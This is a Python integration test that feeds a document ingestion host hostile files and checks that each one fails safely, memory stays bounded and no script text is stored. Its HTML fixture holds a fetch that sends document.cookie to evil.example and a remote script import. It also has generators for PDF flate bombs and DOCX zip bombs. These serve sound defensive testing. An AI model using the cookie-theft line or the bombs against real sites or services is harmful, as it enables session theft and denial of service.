"""Hostile files ingested through the real gRPC host (its ingestion workers, the real loaders and the real
PostgreSQL): each bad file ends ``failed`` at the load stage with a reason a user can act on, the good
files of the same job are stored, no script text reaches the chunks, and the host's memory stays bounded.

The loaders' own tests (tests/plugins/test_loader_*.py) check each failure's wording on the loader alone;
an upload over ``ingestion.max_upload_bytes`` is refused before any job in
tests/host/test_ingest_grpc.py. Here the files sit in a folder of the host's ``ingestion.roots``, all in
one job, as an attacker's folder or a careless share would.
"""

from __future__ import annotations

import io
import random
import uuid
import zipfile
import zlib
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import grpc.aio
import psutil
import pytest_asyncio
import sqlalchemy as sa
from pypdf import PdfWriter
from sqlalchemy.ext.asyncio import AsyncEngine

from opentier.config import Settings
from opentier.generated.intelligence.v1 import (
    collections_pb2,
    collections_pb2_grpc,
    common_pb2,
    ingest_pb2,
    ingest_pb2_grpc,
)
from opentier.host.runtime import HostRuntime
from opentier.host.server import HostServer
from opentier.plugin_manager import PluginSelection, load_plugins
from tests.engine.helpers import HashEmbedder, plugin
from tests.host.conftest import AUTH, TOKEN, host_settings
from tests.plugins.test_loader_docx import field_guide
from tests.plugins.test_loader_pdf import report_pdf

#: The host reads files of its roots up to this size (ingestion.max_upload_bytes).
LIMIT = 2 * 1024 * 1024
#: Growth of the process's resident memory allowed for the whole hostile batch.
MEMORY_BOUND = 200 * 1024 * 1024


@dataclass
class HostileHost:
    server: HostServer
    channel: grpc.aio.Channel
    root: Path
    tenant: str

    def caller(self) -> common_pb2.Caller:
        return common_pb2.Caller(tenant_id=self.tenant, user_id="attacker")


@pytest_asyncio.fixture
async def hostile_host(db_settings: Settings, tmp_path: Path) -> AsyncIterator[HostileHost]:
    root = tmp_path / "root"
    root.mkdir()
    settings = host_settings(
        db_settings, tmp_path / "state", root, max_upload_bytes=LIMIT, loaders=["pdf", "docx", "html", "text"]
    )
    plugins = load_plugins(
        selection=PluginSelection(allow=["text", "pdf", "docx", "html", "basic-cleaners"]),
        extra=[("test", plugin(HashEmbedder()))],
    )
    server = HostServer(settings, plugins, TOKEN, runtime=HostRuntime(settings, plugins.registry))
    await server.start()
    try:
        async with grpc.aio.insecure_channel(server.target) as channel:
            yield HostileHost(server, channel, root, f"tenant-{uuid.uuid4().hex[:10]}")
    finally:
        await server.stop()


# -- the files --------------------------------------------------------------------------------------


def _pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects (numbered from 1; 1 is the catalog), with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def flate_bomb_pdf(inflated: int = 200_000_000) -> bytes:
    """One page whose content stream is a few hundred kB compressed and ``inflated`` bytes of text
    operators decompressed."""
    unit = b"BT /F1 12 Tf 72 720 Td (lift lift lift) Tj ET\n"
    chunk = unit * (1_000_000 // len(unit))
    squeeze = zlib.compressobj(9)
    data = b"".join(squeeze.compress(chunk) for _ in range(inflated // len(chunk))) + squeeze.flush()
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream",
            FONT,
        ]
    )


def many_pages_pdf(pages: int = 50_000) -> bytes:
    """A 50,000-page PDF of 300 kB: one page object listed again and again in the page tree."""
    content = b"BT /F1 12 Tf 72 720 Td (again) Tj ET"
    kids = b" ".join([b"3 0 R"] * pages)
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % pages,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
            FONT,
        ]
    )


def encrypted_pdf() -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(report_pdf(1)))
    writer.encrypt(user_password="s3cret", owner_password="owner", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zip_bomb_docx(inflated: int = 300_000_000) -> bytes:
    """A DOCX whose document.xml expands to ``inflated`` bytes (under the 512 MiB total limit), in a
    ZIP of well under 1 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with archive.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(b"<w:document><w:body><w:p><w:r><w:t>")
            block = b" " * 1_000_000
            for _ in range(inflated // len(block)):
                part.write(block)
            part.write(b"</w:t></w:r></w:p></w:body></w:document>")
    return out.getvalue()


SCRIPTED_HTML = """<!doctype html>
<html><head><title>Wing care</title>
<style>body { background: url(javascript:STYLE_PAYLOAD) }</style>
<script>fetch("https://evil.example/steal?c=" + document.cookie); // SCRIPT_PAYLOAD</script>
</head>
<body onload="BODY_HANDLER_PAYLOAD()">
<main>
<h1 onclick="HEADING_HANDLER_PAYLOAD()">Wing care</h1>
<p>Clean the leading edge of the wing after every flight; insects spoil the laminar flow.</p>
<img src="x" onerror="IMG_HANDLER_PAYLOAD()">
<script type="module">import("https://evil.example/MODULE_PAYLOAD.js")</script>
<noscript>NOSCRIPT_PAYLOAD</noscript>
<template><p>TEMPLATE_PAYLOAD</p></template>
<svg><script>SVG_SCRIPT_PAYLOAD</script></svg>
<iframe srcdoc="<script>IFRAME_PAYLOAD</script>"></iframe>
<p>Check the flap hinges for play before the first flight of the day.</p>
<a href="javascript:LINK_PAYLOAD()">more</a>
</main></body></html>
"""
PAYLOADS = [word for word in SCRIPTED_HTML.replace("(", " ").replace('"', " ").split() if "PAYLOAD" in word]

GOOD = {
    "good/report.pdf": report_pdf(2),
    "good/guide.docx": field_guide(),
    "good/notes.txt": b"Flaps raise lift at low speed.\n\nSlats delay the stall at high angles of attack.",
    "good/latin1.txt": ("Les volets augmentent la portance à basse vitesse. " * 20).encode("cp1252"),
}


def hostile_files() -> dict[str, tuple[bytes, str]]:
    """Hostile file → (content, a piece of the reason its document must fail, or be dropped, with)."""
    rng = random.Random(10)
    report = report_pdf(3)
    return {
        "truncated.pdf": (report[: len(report) // 2], "damaged or truncated"),
        "corrupt.pdf": (b"%PDF-1.7\n" + rng.randbytes(64 * 1024), "damaged or truncated"),
        "encrypted.pdf": (encrypted_pdf(), "encrypted and needs a password"),
        "bomb.pdf": (flate_bomb_pdf(), "within the loader's limits"),
        "pages.pdf": (many_pages_pdf(), "50000 pages, more than this loader reads"),
        "bomb.docx": (zip_bomb_docx(), "zip bomb"),
        "binary.txt": (rng.randbytes(20_000), "not text"),
        "empty.txt": (b"", "no text left"),
        "empty.pdf": (b"", "not a PDF"),
        "huge.txt": (b"lift " * (LIMIT // 5 + 1), "ingestion.max_upload_bytes"),
    }


# -- the test ---------------------------------------------------------------------------------------


async def test_a_batch_of_hostile_files_fails_each_with_a_reason_and_keeps_the_good_ones(
    hostile_host: HostileHost, db_engine: AsyncEngine
) -> None:
    root = hostile_host.root
    hostile = hostile_files()
    for name, data in {**GOOD, **{name: content for name, (content, _) in hostile.items()}}.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    (root / "scripted.html").write_text(SCRIPTED_HTML)

    collections = collections_pb2_grpc.CollectionServiceStub(hostile_host.channel)
    collection = await collections.CreateCollection(
        collections_pb2.CreateCollectionRequest(caller=hostile_host.caller(), name="hostile"),
        metadata=AUTH,
        timeout=10,
    )
    ingest = ingest_pb2_grpc.IngestServiceStub(hostile_host.channel)
    process = psutil.Process()
    before = process.memory_info().rss
    request = ingest_pb2.IngestRequest(
        caller=hostile_host.caller(), collection_id=collection.id, path=str(root)
    )
    events = [event async for event in ingest.Ingest(request, metadata=AUTH, timeout=120)]
    grown = process.memory_info().rss - before

    summary = events[-1].summary
    assert summary.status == ingest_pb2.JOB_STATUS_SUCCEEDED  # bad documents never fail the job
    # An empty file is dropped by the cleaners (nothing to index), every other hostile file fails.
    assert (summary.counts.created, summary.counts.failed, summary.counts.dropped) == (
        len(GOOD) + 1,
        len(hostile) - 1,
        1,
    )
    assert grown < MEMORY_BOUND, f"the host grew by {grown / 2**20:.0f} MiB"

    async with db_engine.connect() as conn:
        documents = {
            row.source: row
            for row in await conn.execute(
                sa.text(
                    "SELECT source, status, error_stage, error_message, metadata FROM intelligence.documents "
                    "WHERE collection_id = :c"
                ),
                {"c": uuid.UUID(collection.id)},
            )
        }
        chunks = {
            row.source: row.text
            for row in await conn.execute(
                sa.text(
                    "SELECT d.source, string_agg(c.text, ' ') AS text FROM intelligence.chunks c "
                    "JOIN intelligence.documents d ON d.id = c.document_id WHERE c.collection_id = :c "
                    "GROUP BY d.source"
                ),
                {"c": uuid.UUID(collection.id)},
            )
        }
    for name, (_, reason) in hostile.items():
        document = documents[name]
        expected = ("skipped", "clean") if name == "empty.txt" else ("failed", "load")
        assert (document.status, document.error_stage) == expected, (name, document)
        assert reason in document.error_message, (name, document.error_message)
        assert name not in chunks
    assert set(chunks) == {*GOOD, "scripted.html"}
    assert all(documents[name].status == "ready" for name in chunks)
    assert "volets augmentent la portance" in chunks["good/latin1.txt"]

    # The page's text is there, none of its scripts, styles or event handlers.
    page = chunks["scripted.html"]
    assert "leading edge of the wing" in page and "flap hinges" in page
    leaked = [payload for payload in PAYLOADS if payload.strip("/:;()") in page]
    assert not leaked and "evil.example" not in page and "cookie" not in page, page
